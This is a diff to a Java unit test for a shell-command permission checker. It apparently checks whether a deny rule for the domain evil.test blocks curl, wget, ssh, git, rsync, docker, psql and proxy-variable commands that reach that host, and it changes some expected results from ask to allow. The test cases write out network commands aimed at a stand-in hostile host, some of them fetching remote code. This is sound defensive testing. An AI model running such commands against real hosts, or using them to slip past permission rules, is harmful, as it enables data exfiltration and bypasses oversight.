@@ -377,7 +377,7 @@ final class CommandRulesTest {
         "curl --proxy evil.test https://example.test, deny",
         "wget -qO- evil.test/x, deny",
         "ssh -p 22 me@evil.test ls, deny",
-        "curl https://example.test, ask",
+        "curl https://example.test, allow",
         "git clone http://evil.test/x, deny",
         "git push git@evil.test:x main, deny",
         "rsync -a evil.test::m x, deny",
@@ -391,13 +391,18 @@ final class CommandRulesTest {
         "export https_proxy=http://evil.test; make, deny",
         "env all_proxy=socks5://evil.test make, deny",
         "git -c http.proxy=http://evil.test fetch, deny",
-        "git clone http://example.test/x, ask",
+        "git clone http://example.test/x, allow",
         "scp a.txt example.test:x, ask",
         "git commit -m 'evil.test is down', ask",
+        "git commit -m 'all is well', allow",
+        "docker run evil.test/image, ask",
+        "psql -hevil.test, ask",
+        "go get evil.test/x@latest, ask",
+        "docker run example.test/image, allow",
         "echo http://evil.test, allow",
     })
     void a_rule_about_a_domain_holds_for_programs_that_speak_to_it(String script, String expected) {
-        assertThat(judge(rules -> rules.deny("WebFetch(domain:evil.test)"), script))
+        assertThat(judge(rules -> rules.allow("Bash").deny("WebFetch(domain:evil.test)"), script))
                 .isEqualTo(expected);
     }
 
